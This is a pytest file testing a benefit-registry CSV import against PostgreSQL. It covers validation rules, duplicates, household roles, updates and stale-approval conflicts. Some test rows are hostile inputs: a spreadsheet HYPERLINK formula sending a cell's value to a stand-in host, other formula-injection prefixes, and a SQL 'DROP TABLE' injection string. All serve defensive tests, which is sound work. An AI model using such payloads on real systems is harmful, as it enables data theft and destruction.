"""The individuals import on a real PostgreSQL with real GX and real dbt: every rule with a small file."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest

from benefitflow.core import db
from benefitflow.core.errors import CommitConflict, WorkflowError
from benefitflow.registry.individuals_import import WORKFLOW
from benefitflow.workflows.direct import run_steps
from benefitflow.workflows.intake import intake_step
from benefitflow.workflows.propose import propose_step
from benefitflow.workflows.validate import validate_step

# A copy of ../shared/data/external/openimis-individuals-sample.csv (openIMIS's own end-to-end fixture).
SAMPLE = Path(__file__).resolve().parents[1] / "fixtures" / "openimis-individuals-sample.csv"
HEADER = "first_name,last_name,dob,sex,national_id,group_code,recipient_info,individual_role,location_code,region"


def run_import(path: Path, *, mode: str = "create", on_invalid_rows: str = "reject_file",
               checker: str | None = "checker") -> dict:
    return run_steps(WORKFLOW, file=path.name, options={"mode": mode, "on_invalid_rows": on_invalid_rows},
                     maker="maker", checker=checker, run_id=uuid.uuid4().hex)


def unique() -> str:
    return uuid.uuid4().hex[:8].upper()


def query(statement: str, *args: object) -> list[tuple]:
    with db.transaction() as cur:
        cur.execute(statement, args)
        return cur.fetchall()


def registry_size() -> int:
    return query("SELECT count(*) FROM ledger.individual_versions")[0][0]


def errors(upload_id: int, severity: str = "critical") -> set[tuple]:
    return set(query("SELECT row_number, column_name, rule FROM intake.row_errors WHERE upload_id = %s"
                     " AND severity = %s", upload_id, severity))


def latest_upload_id() -> int:
    return query("SELECT max(upload_id) FROM intake.uploads")[0][0]


def household(code: str, *, heads: str = "HEAD") -> list[str]:
    """A valid household of three with fresh national ids."""
    tag = unique()
    return [f"Amina,Okafor{tag},1980-03-04,F,N{tag}1,{code},1,{heads},LOC-1,North",
            f"Musa,Okafor{tag},1978-11-30,M,N{tag}2,{code},2,SPOUSE,LOC-1,North",
            f"Zara,Okafor{tag},2015-06-01,F,,{code},0,DAUGHTER,LOC-1,North"]


def csv_file(inbox_file, name: str, rows: list[str], header: str = HEADER) -> Path:
    return inbox_file(name, "\n".join([header, *rows]) + "\n")


def test_the_openimis_sample_imports_as_is(database) -> None:
    assert SAMPLE.is_file(), f"the shared openIMIS sample is missing: {SAMPLE}"
    # The exact bytes go through the running Airflow in tests/e2e (same database): here the same rows as a
    # Windows export, with household codes of their own.
    tag = unique()
    content = SAMPLE.read_text()
    for code in {line.split(",")[3] for line in content.splitlines()[1:]}:
        content = content.replace(f",{code},", f",{code}{tag},")
    target = database.inbox / f"{tag}-openimis-individuals-sample.csv"
    target.write_bytes(content.replace("\n", "\r\n").encode())
    result = run_import(target)
    proposal = result["proposal"]
    assert (proposal["rows_in_file"], proposal["valid_rows"], proposal["invalid_rows"]) == (100, 100, 0)
    assert (proposal["individuals_to_create"], proposal["households_to_create"]) == (100, 20)
    upload_id = result["upload_id"]
    households = query(
        "SELECT h.member_count, head.role, head.recipient_type FROM registry.households h"
        " JOIN registry.individuals head ON head.individual_id = h.head_individual_id"
        " WHERE h.household_code IN (SELECT household_code FROM registry.individuals WHERE last_upload_id = %s)",
        upload_id)
    assert len(households) == 20 and sum(size for size, _, _ in households) == 100
    assert {(role, recipient) for _, role, recipient in households} == {("HEAD", "PRIMARY")}
    michael = query("SELECT household_code, role, recipient_type, dob::text, attributes FROM registry.individuals"
                    " WHERE last_upload_id = %s AND first_name = 'Michael' AND last_name = 'Lloyd'", upload_id)
    assert michael == [(f"QMLJIL{tag}", "HEAD", "PRIMARY", "1980-01-20",
                        {"able_bodied": True, "educated_level": "primary", "number_of_children": 5})]
    assert query("SELECT status, valid_row_count FROM intake.uploads WHERE upload_id = %s", upload_id) == [("APPLIED", 100)]
    assert query("SELECT individuals_created FROM marts.mart_uploads WHERE upload_id = %s", upload_id) == [(100,)]


@pytest.mark.parametrize(
    ("row", "column", "rule"),
    [
        ("Ana,Diaz,2023-02-30,F,,,,,,", "dob", "dob__is_date:column_values_to_be_in_set"),
        ("Ana,Diaz,01/02/1990,F,,,,,,", "dob", "dob__is_date:column_values_to_be_in_set"),
        ("Ana,Diaz,2999-01-01,F,,,,,,", "dob", "dob__days_old:column_values_to_be_between"),
        ("Ana,Diaz,1850-01-01,F,,,,,,", "dob", "dob__age:column_values_to_be_between"),
        ("Ana,Diaz,1990-01-01,Q,,,,,,", "sex", "sex:column_values_to_be_in_set"),
        ("Ana,Diaz,1990-01-01,F,bad id!,,,,,", "national_id", "national_id:column_values_to_match_regex"),
        (",Diaz,1990-01-01,F,,,,,,", "first_name", "first_name:column_values_to_not_be_null"),
        ("  ,Diaz,1990-01-01,F,,,,,,", "first_name", "first_name:column_values_to_not_be_null"),
        ("Ana,Diaz,,F,,,,,,", "dob", "dob:column_values_to_not_be_null"),
        ("Ana,Diaz,1990-01-01,F,,,,,BAD CODE,", "location_code", "location_code:column_values_to_match_regex"),
        ("Ana,Diaz,1990-01-01,F,,HH1,7,HEAD,,", "recipient_info", "recipient_info:column_values_to_be_in_set"),
        ("Ana,Diaz,1990-01-01,F,,HH1,1,BOSS,,", "individual_role", "individual_role:column_values_to_be_in_set"),
        ('"=HYPERLINK(""https://x.example/?""&E2,""Open"")",Diaz,1990-01-01,F,,,,,,', "first_name",
         "first_name:column_values_to_not_match_regex"),
        ("Ana,@Diaz,1990-01-01,F,,,,,,", "last_name", "last_name:column_values_to_not_match_regex"),
        ("Ana,+Diaz,1990-01-01,F,,,,,,", "last_name", "last_name:column_values_to_not_match_regex"),
        ("\uff1dHYPERLINK(1),Diaz,1990-01-01,F,,,,,,", "first_name", "first_name:column_values_to_not_match_regex"),
        ("Ana,\u00a0=1+1,1990-01-01,F,,,,,,", "last_name", "last_name:column_values_to_not_match_regex"),
    ],
)
def test_each_schema_rule_blocks_the_row_and_changes_nothing(database, inbox_file, row: str, column: str, rule: str) -> None:
    before = registry_size()
    path = csv_file(inbox_file, "rule.csv", [f"Valid,Person{unique()},1990-01-01,M,,,,,,", row])
    with pytest.raises(WorkflowError, match=rf"{path.name}.*Row 2, column {column}"):
        run_import(path)
    assert (2, column, rule) in errors(latest_upload_id())
    assert registry_size() == before
    assert query("SELECT status FROM intake.uploads WHERE upload_id = %s", latest_upload_id()) == [("INVALID",)]


@pytest.mark.parametrize(
    ("variables", "column", "rule"),
    [
        ("True,primary,-1,none,100", "number_of_children", "number_of_children__value:column_values_to_be_between"),
        ("True,primary,2.5,none,100", "number_of_children", "number_of_children:column_values_to_match_regex"),
        ("maybe,primary,2,none,100", "able_bodied", "able_bodied:column_values_to_match_regex"),
        ("True,university,2,none,100", "educated_level", "educated_level:column_values_to_be_in_set"),
        ("True,primary,2,none,12.5.0", "income", "income:column_values_to_match_regex"),
        ("True,primary,2,extreme,100", "disability", "disability:column_values_to_be_in_set"),
    ],
)
def test_programme_variables_are_typed_by_the_schema(database, inbox_file, variables: str, column: str, rule: str) -> None:
    header = "first_name,last_name,dob,able_bodied,educated_level,number_of_children,disability,income"
    path = csv_file(inbox_file, "variables.csv", [f"Ana,Diaz{unique()},1990-01-01,{variables}"], header)
    with pytest.raises(WorkflowError):
        run_import(path)
    assert (1, column, rule) in errors(latest_upload_id())


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"first_name,last_name,dob,favourite_colour\nA,B,1990-01-01,red\n", r"unknown column\(s\): favourite_colour"),
        (b"first_name,dob\nA,1990-01-01\n", r"missing required column\(s\): last_name"),
        (b"first_name,last_name,dob,dob\nA,B,1990-01-01,1990-01-01\n", r"duplicated column\(s\): dob"),
        (b"", "is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a CSV text file"),
        (b"first_name;last_name;dob\nA;B;1990-01-01\n", "separated by semicolon"),
        ("first_name,last_name,dob\nJosé,Peña,1990-01-01\n".encode("latin-1"), "not valid UTF-8"),
        (b"first_name,last_name,dob,group_code\nA,B,1990-01-01,H1\n", "individual_role|primary recipient|HEAD"),
    ],
)
def test_broken_files_get_a_clear_error_and_change_nothing(database, inbox_file, content: bytes, message: str) -> None:
    before = registry_size()
    path = inbox_file("broken.csv", content)
    with pytest.raises(WorkflowError, match=message) as error:
        run_import(path)
    assert path.name in str(error.value)
    assert registry_size() == before


def test_a_utf8_file_with_bom_and_crlf_is_accepted(database, inbox_file) -> None:
    name = f"Zoë{unique()}"
    path = inbox_file("bom.csv", f"\ufefffirst_name,last_name,dob\r\n{name},Ñúñez,1990-01-01\r\n".encode())
    run_import(path)
    assert query("SELECT last_name FROM registry.individuals WHERE first_name = %s", name) == [("Ñúñez",)]


def test_national_id_duplicates_in_the_file_and_in_the_registry_block_the_row(database, inbox_file) -> None:
    tag = unique()
    run_import(csv_file(inbox_file, "first.csv", [f"Kofi,Mensah{tag},1970-01-01,M,ID{tag},,,,,"]))
    path = csv_file(inbox_file, "dups.csv", [
        f"Other,Person{tag},1980-01-01,M,ID{tag},,,,,",       # taken in the registry
        f"Twin,One{tag},1990-01-01,F,X{tag},,,,,",            # repeated in the file
        f"Twin,Two{tag},1991-01-01,F,X{tag},,,,,",
        f"Fine,Row{tag},1992-01-01,F,F{tag},,,,,",
    ])
    result = run_import(path, on_invalid_rows="skip_invalid_rows")
    upload_id = result["upload_id"]
    assert {(1, "national_id", "national_id:already_in_registry"),
            (2, "national_id", "national_id:column_values_to_be_unique"),
            (3, "national_id", "national_id:column_values_to_be_unique")} <= errors(upload_id)
    assert result["proposal"]["individuals_to_create"] == 1
    assert query("SELECT status FROM intake.uploads WHERE upload_id = %s", upload_id) == [("PARTIALLY_APPLIED",)]
    assert query("SELECT count(*) FROM registry.individuals WHERE national_id = %s", f"ID{tag}") == [(1,)]


def test_likely_duplicates_are_shown_to_the_checker_not_blocked(database, inbox_file) -> None:
    """Under the duplicate rules (registry/duplicate_rules.yaml), as the duplicates_search workflow compares."""
    tag = unique().lower()
    run_import(csv_file(inbox_file, "original.csv", [f"Fatima,Bello{tag},1985-07-07,F,,,,,LOC-9,"]))
    path = csv_file(inbox_file, "lookalikes.csv", [
        f"Fatma,Bello{tag},1985-07-07,F,,,,,LOC-9,",   # one letter off, same dob and place: like the registry's
        f"Fatima,Bello{tag},1985-07-07,F,,,,,LOC-8,",  # another place: still alike (people move)
        f"Yusuf,Adamu{tag},1960-01-01,M,,,,,LOC-9,",
        f"Yusuf,Adamu{tag},1960-01-01,M,,,,,LOC-9,",    # same as the row above
        f"Musa,Bello{tag},1985-07-07,M,,,,,LOC-9,",     # her twin brother: not alike
    ])
    result = run_import(path)
    proposal = result["proposal"]
    assert proposal["likely_duplicates"] == 3 and proposal["individuals_to_create"] == 5
    assert any("row 1:" in line and "already in the registry" in line for line in proposal["likely_duplicates_first"])
    assert any("row 4:" in line and "looks like row 3" in line for line in proposal["likely_duplicates_first"])
    assert {row for row, _, _ in errors(result["upload_id"], "warning")} == {1, 2, 4}


def test_household_rules_count_the_file_and_the_registry(database, inbox_file) -> None:
    code = f"H{unique()}"
    result = run_import(csv_file(inbox_file, "household.csv", household(code)))
    assert result["proposal"]["households_to_create"] == 1

    tag = unique()
    extend = run_import(csv_file(inbox_file, "extend.csv", [f"Ali,Okafor{tag},2018-01-01,M,,{code},0,SON,LOC-1,North"]))
    assert (extend["proposal"]["households_to_create"], extend["proposal"]["households_to_extend"]) == (0, 1)
    assert query("SELECT member_count FROM registry.households WHERE household_code = %s", code) == [(4,)]

    second_head = csv_file(inbox_file, "second-head.csv", [f"New,Head{tag},1970-01-01,M,,{code},0,HEAD,LOC-1,"])
    with pytest.raises(WorkflowError, match=f"household {code} would have 2 heads"):
        run_import(second_head)

    other = f"H{unique()}"
    rows = household(other)
    rows[1] = rows[1].replace(",2,SPOUSE,", ",1,HEAD,")  # two heads, two primary recipients
    with pytest.raises(WorkflowError):
        run_import(csv_file(inbox_file, "two-heads.csv", rows))
    upload_errors = {rule for _, _, rule in errors(latest_upload_id())}
    assert {"household:more_than_one_head", "household:more_than_one_primary_recipient"} <= upload_errors

    headless = [line.replace(",1,HEAD,", ",1,SPOUSE,") for line in household(f"H{unique()}")]
    with pytest.raises(WorkflowError, match="would have no HEAD"):
        run_import(csv_file(inbox_file, "headless.csv", headless))


def test_skip_invalid_rows_imports_a_household_whole_or_not_at_all(database, inbox_file) -> None:
    broken_code, fine_code = f"H{unique()}", f"H{unique()}"
    broken = household(broken_code)
    broken[2] = broken[2].replace("2015-06-01", "2015-13-01")
    result = run_import(csv_file(inbox_file, "partial.csv", broken + household(fine_code)),
                        on_invalid_rows="skip_invalid_rows")
    assert (result["proposal"]["invalid_rows"], result["proposal"]["individuals_to_create"]) == (3, 3)
    assert {rule for _, _, rule in errors(result["upload_id"])} >= {"household:incomplete"}
    assert query("SELECT count(*) FROM registry.households WHERE household_code IN (%s, %s)",
                 broken_code, fine_code) == [(1,)]


def test_rejection_leaves_the_registry_untouched(database, inbox_file) -> None:
    before = registry_size()
    result = run_import(csv_file(inbox_file, "rejected.csv", household(f"H{unique()}")), checker=None)
    assert result["proposal"]["individuals_to_create"] == 3
    assert registry_size() == before
    assert query("SELECT status FROM intake.uploads WHERE upload_id = %s", result["upload_id"]) == [("REJECTED",)]


def staging_tables(upload_id: int) -> list[tuple]:
    return query("SELECT tablename FROM pg_tables WHERE schemaname = 'intake' AND tablename LIKE %s",
                 f"stage\\_individuals\\_{upload_id}%")


def test_staging_tables_are_dropped_once_proposed_or_refused(database, inbox_file) -> None:
    proposed = run_import(csv_file(inbox_file, "staged.csv", household(f"H{unique()}")), checker=None)
    assert staging_tables(proposed["upload_id"]) == []
    broken = household(f"H{unique()}")
    broken[0] = broken[0].replace("1980-03-04", "1980-02-30")
    with pytest.raises(WorkflowError, match="not a real date"):
        run_import(csv_file(inbox_file, "staged-broken.csv", broken))
    assert staging_tables(latest_upload_id()) == []
    assert query("SELECT status FROM intake.uploads WHERE upload_id = %s", latest_upload_id()) == [("INVALID",)]


def test_validate_and_propose_run_again_after_going_through_give_what_they_gave(database, inbox_file) -> None:
    """What a step's retry meets when its process was killed after its transaction went through (or it is cleared):
    validate makes its checked table again; propose, whose staged rows are gone, summarises what it built."""
    options = {"mode": "create", "on_invalid_rows": "reject_file"}
    path = csv_file(inbox_file, "again.csv", household(f"H{unique()}"))
    upload = intake_step(workflow=WORKFLOW, options={**options, "file": path.name}, user="maker", dag_id="again",
                         run_id=uuid.uuid4().hex)
    validated = validate_step(workflow=WORKFLOW, taken=upload, options=options, user="maker")
    assert validate_step(workflow=WORKFLOW, taken=upload, options=options, user="maker") == validated
    proposal = propose_step(workflow=WORKFLOW, taken=upload, validated=validated)
    assert staging_tables(upload["upload_id"]) == []
    assert propose_step(workflow=WORKFLOW, taken=upload, validated=validated) == proposal
    assert proposal["proposal_digest"] and proposal["rows_in_file"] == 3


def test_update_changes_only_the_given_columns(database, inbox_file) -> None:
    tag = unique()
    header = "first_name,last_name,dob,national_id,number_of_children,educated_level"
    run_import(csv_file(inbox_file, "people.csv", [f"Grace,Banda{tag},1975-05-05,G{tag},3,primary"], header))
    (individual_id,) = query("SELECT individual_id FROM registry.individuals WHERE national_id = %s", f"G{tag}")[0]
    unknown = uuid.uuid4()
    update = csv_file(inbox_file, "update.csv", [f"{individual_id},4", f"{unknown},1"], "ID,number_of_children")
    result = run_import(update, mode="update", on_invalid_rows="skip_invalid_rows")
    assert (2, "id", "id:unknown_individual") in errors(result["upload_id"])
    assert result["proposal"]["individuals_to_update"] == 1
    rows = query("SELECT version, first_name, dob::text, attributes FROM registry.individuals"
                 " WHERE individual_id = %s", individual_id)
    assert rows == [(2, "Grace", "1975-05-05", {"number_of_children": 4, "educated_level": "primary"})]
    cleared = csv_file(inbox_file, "clear.csv", [f"{individual_id},"], "id,educated_level")
    run_import(cleared, mode="update")
    assert query("SELECT attributes FROM registry.individuals WHERE individual_id = %s", individual_id) == [
        ({"number_of_children": 4},)]


def members(code: str) -> dict[str, tuple]:
    rows = query("SELECT first_name, individual_id, role, recipient_type FROM registry.individuals"
                 " WHERE household_code = %s", code)
    return {name: (str(individual_id), role, recipient) for name, individual_id, role, recipient in rows}


def test_an_update_moves_people_between_households_keeping_the_rules(database, inbox_file) -> None:
    first, second = f"H{unique()}", f"H{unique()}"
    run_import(csv_file(inbox_file, "two-households.csv", household(first) + household(second)))
    amina, musa, zara = (members(first)[name][0] for name in ("Amina", "Musa", "Zara"))

    moved = run_import(csv_file(inbox_file, "move.csv", [f"{zara},{second}"], "id,group_code"), mode="update")
    assert (moved["proposal"]["households_to_create"], moved["proposal"]["households_to_extend"]) == (0, 1)
    assert set(members(first)) == {"Amina", "Musa"}
    assert members(second)["Zara"][1:] == ("DAUGHTER", None)

    swapped = csv_file(inbox_file, "swap.csv", [f"{amina},SPOUSE,2", f"{musa},HEAD,1"],
                       "id,individual_role,recipient_info")
    assert run_import(swapped, mode="update")["proposal"]["households_to_extend"] == 0
    assert members(first) == {"Amina": (amina, "SPOUSE", "SECONDARY"), "Musa": (musa, "HEAD", "PRIMARY")}

    with pytest.raises(WorkflowError, match=f"household {second} would have 2 heads"):
        run_import(csv_file(inbox_file, "head-leaves.csv", [f"{musa},{second}"], "id,group_code"), mode="update")
    assert {(rule, column) for _, column, rule in errors(latest_upload_id())} == {
        ("household:more_than_one_head", "individual_role"), ("household:no_head", "individual_role"),
        ("household:more_than_one_primary_recipient", "recipient_info"),
        ("household:no_primary_recipient", "recipient_info")}
    assert query("SELECT message FROM intake.row_errors WHERE upload_id = %s AND rule = 'household:no_head'",
                 latest_upload_id()) == [(f"household {first} would have no HEAD (in this file or in the registry)",)]

    with pytest.raises(WorkflowError, match="to leave a household"):
        run_import(csv_file(inbox_file, "leave-with-role.csv", [f"{amina},"], "id,group_code"), mode="update")
    left = csv_file(inbox_file, "leave.csv", [f"{amina},,,"], "id,group_code,individual_role,recipient_info")
    run_import(left, mode="update")
    assert set(members(first)) == {"Musa"}
    assert query("SELECT household_code, role, recipient_type FROM registry.individuals WHERE individual_id = %s",
                 amina) == [(None, None, None)]


def test_an_update_approved_after_the_record_changed_is_not_applied(database, inbox_file) -> None:
    tag = unique()
    run_import(csv_file(inbox_file, "stale-base.csv", [f"Ruth,Phiri{tag},1960-01-01,F,R{tag},,,,,"]))
    (individual_id,) = query("SELECT individual_id FROM registry.individuals WHERE national_id = %s", f"R{tag}")[0]
    from benefitflow.workflows.intake import take_in_file
    from benefitflow.workflows.propose import propose_step
    from benefitflow.workflows.validate import validate_step

    options = {"mode": "update", "on_invalid_rows": "reject_file"}
    first = csv_file(inbox_file, "stale-1.csv", [f"{individual_id},Phiri-Banda{tag}"], "id,last_name")
    upload = take_in_file(spec=WORKFLOW.intake.spec_for(options), file=first.name, user="maker", dag_id="stale", run_id="a",
                          mode="update")
    validated = validate_step(workflow=WORKFLOW, taken=upload, options=options, user="maker")
    proposal = propose_step(workflow=WORKFLOW, taken=upload, validated=validated, options=options)
    run_import(csv_file(inbox_file, "stale-2.csv", [f"{individual_id},Zulu{tag}"], "id,last_name"), mode="update")
    from benefitflow.workflows.commit import commit_step
    from benefitflow.workflows.direct import record_direct_decision

    assert record_direct_decision("individuals_import", "stale", "a", "maker", "checker", proposal,
                                  upload_id=upload["upload_id"])
    with pytest.raises(CommitConflict, match="registry changed after the proposal"):
        commit_step(workflow=WORKFLOW, dag_id="stale", run_id="a", taken=upload, user="maker")
    assert query("SELECT last_name FROM registry.individuals WHERE individual_id = %s", individual_id) == [(f"Zulu{tag}",)]
    assert query("SELECT status FROM intake.uploads WHERE upload_id = %s", upload["upload_id"])[0][0] == "FAILED"


def test_hostile_strings_are_stored_as_text(database, inbox_file) -> None:
    tag = unique()
    hostile = f"Robert'); DROP TABLE ledger.individual_versions; --{tag}"
    path = csv_file(inbox_file, "hostile.csv", [f'"{hostile}",O\'Brien,1990-01-01'], "last_name,first_name,dob")
    run_import(path)
    assert query("SELECT first_name FROM registry.individuals WHERE last_name = %s", hostile) == [("O'Brien",)]
